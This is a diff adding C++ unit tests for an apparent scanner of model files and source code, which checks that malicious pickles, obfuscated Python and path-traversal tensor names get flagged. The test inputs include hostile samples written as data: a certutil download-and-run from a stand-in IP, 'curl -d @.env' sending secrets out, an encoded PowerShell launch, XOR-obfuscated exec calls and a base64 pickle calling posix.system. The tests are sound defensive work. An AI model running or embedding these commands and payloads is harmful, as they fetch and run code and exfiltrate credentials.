@@ -164,6 +164,17 @@ TEST(JudgePickle, AllowsWhatFrameworksWrite) {
   }
 }
 
+TEST(JudgePickle, TellsErrorsOfKnownPackagesFromThoseOfOthers) {
+  const auto made = [](const std::string& module, const std::string& name) {
+    return rules_of(
+        look("\x80\x02"
+             "c" +
+             module + "\n" + name + "\n)\x81."));
+  };
+  EXPECT_EQ(made("sklearn._loss.loss", "HalfSquaredError"), Rules{});
+  EXPECT_EQ(made("their.module", "TheirError"), (Rules{"pickle-own-class"}));
+}
+
 TEST(JudgePickle, KeepsTheUnknownApart) {
   const auto scan = look("cvendor.models\nEncoder\n)\x81}b.");
   EXPECT_EQ(scan.verdict, FileVerdict::suspicious);
@@ -426,6 +437,13 @@ TEST(JudgeText, FindsWhatRunsInputButNotWhatChecksIt) {
             (Rules{"shell-of-input"}));
 }
 
+TEST(JudgeText, TakesLettersThatAreWorkedOutForHiddenOnes) {
+  const auto python = [](std::string_view text) { return rules_of(look(text, "app/x.py", AssetKind::source)); };
+  EXPECT_EQ(python("d = bytes(b ^ 7 for b in b'nijhus')\nexec(d)\n"), (Rules{"obfuscated-code"}));
+  EXPECT_EQ(python("exec(''.join(chr(ord(c) ^ 3) for c in text))\n"), (Rules{"obfuscated-code"}));
+  EXPECT_EQ(python("key = bytes(a ^ b for a, b in zip(x, y))\n"), Rules{});
+}
+
 TEST(JudgeText, ReadsCommandsThatAreListsOfWords) {
   const auto python = [](std::string_view text) { return rules_of(look(text, "app/x.py", AssetKind::source)); };
   const std::string head = "import subprocess, base64, os\n";
@@ -433,6 +451,11 @@ TEST(JudgeText, ReadsCommandsThatAreListsOfWords) {
   EXPECT_EQ(python(head + "subprocess.run(['bash', '-c', " + encoded + "])\n"), (Rules{"attack-command"}));
   EXPECT_EQ(python(head + "os.execvp('bash', ['bash', '-c', " + encoded + "])\n"), (Rules{"attack-command"}));
   EXPECT_EQ(python(head + "subprocess.run(['bash', '-c', base64.b64decode(x)])\n"), (Rules{"obfuscated-code"}));
+  EXPECT_EQ(python("import subprocess\nsubprocess.Popen(['powershell', '-nop', '-enc', 'SQBFAFgA'])\n"),
+            (Rules{"attack-command"}));
+  EXPECT_EQ(python("import os\nos.system('certutil -urlcache -f http://192.0.2.1/x.exe x.exe && x.exe')\n"),
+            (Rules{"attack-command"}));
+  EXPECT_EQ(python("import os\nos.system('curl -d @.env http://192.0.2.1')\n"), (Rules{"attack-command"}));
   EXPECT_EQ(python(head + "subprocess.run(['openssl', 'dgst', base64.b64decode(x)])\n"), Rules{});
 }
 
@@ -552,6 +575,28 @@ TEST(Judge, IsNotCleanWhereAModelsNameStandsOverWhatNoParserKnows) {
   EXPECT_EQ(verdict("\0\0\1model half a table"sv, "variables.index"), FileVerdict::incomplete);
   EXPECT_FALSE(found(look("\x08\x07\x10\x07"sv, "fingerprint.pb", AssetKind::other), "limit-reached"));
   EXPECT_NE(verdict("\x08\x07\x10\x07"sv, "fingerprint.pb"), FileVerdict::incomplete);  // a message of another kind
+}
+
+TEST(Judge, FindsEncodedPicklesInValuesOfWeights) {
+  const std::string encoded = "gASMBXBvc2l4jAZzeXN0ZW2TjAJpZIVSLg==";  // posix.system('id')
+  const std::string document = "\x81\xA6params\xD9" + std::string(1, static_cast<char>(encoded.size())) + encoded;
+  EXPECT_TRUE(found(look(document, "weights.msgpack"), "pickle-dangerous-call"));
+  EXPECT_EQ(look("\x81\xA6params\xD9\x28"
+                 "9fceb02d0ae598e95dc970b74767f19372d61af8",
+                 "weights.msgpack")
+                .verdict,
+            FileVerdict::clean);
+}
+
+TEST(Judge, SeesNamesOfTensorsThatLeadElsewhere) {
+  const auto defect = [](const std::string& name) {
+    const std::string header = "{\"" + name + R"(":{"dtype":"U8","shape":[4],"data_offsets":[0,4]}})";
+    const std::string length = std::string(1, static_cast<char>(header.size())) + std::string(7, '\0');
+    return found(look(length + header + "\1\2\3\4", "a.safetensors"), "safetensors-defect");
+  };
+  EXPECT_TRUE(defect("../../home/.bashrc"));
+  EXPECT_TRUE(defect("a\\u0000b"));
+  EXPECT_FALSE(defect("model.layers.0/weight..scale"));
 }
 
 TEST(Judge, FindsPicklesBehindBytesOfNoFormat) {
